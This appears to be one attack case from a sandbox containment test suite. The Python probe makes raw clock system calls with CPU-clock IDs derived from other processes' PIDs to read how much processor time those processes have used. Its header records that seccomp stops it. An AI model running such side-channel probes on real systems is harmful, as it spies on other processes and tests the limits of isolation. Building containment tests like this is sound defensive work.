# attack: reads, and waits for, the processor time that other processes have used, which tells what they are at
# full: contained
# reduced: contained
# stopped-by: seccomp
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def syscall(numbers, *arguments):
    number = numbers.get(platform.machine())
    if number is None:
        raise OSError("no system call numbers for this machine")
    whole = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *whole)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


GETTIME = {"x86_64": 228, "aarch64": 113}
NANOSLEEP = {"x86_64": 230, "aarch64": 115}
RESOLUTION = {"x86_64": 229, "aarch64": 114}
SCHEDULED = 2


def attack():
    # SIBLING's number is one outside; inside it is near this one's.
    for pid in (1, os.getppid(), SIBLING, *range(max(2, os.getpid() - 4), os.getpid()), DECOY):
        clock = (~pid << 3 | SCHEDULED) & 0xFFFF_FFFF
        time = (ctypes.c_long * 2)()
        ways = (
            lambda: syscall(GETTIME, clock, ctypes.byref(time)),
            lambda: syscall(NANOSLEEP, clock, 1, ctypes.byref(time), None),
            lambda: syscall(RESOLUTION, clock, ctypes.byref(time)),
        )
        for way in ways:
            try:
                way()
            except OSError as error:
                last = error
            else:
                return f"through: {pid} has used {time[0]}.{time[1]:09d} s"
    raise last
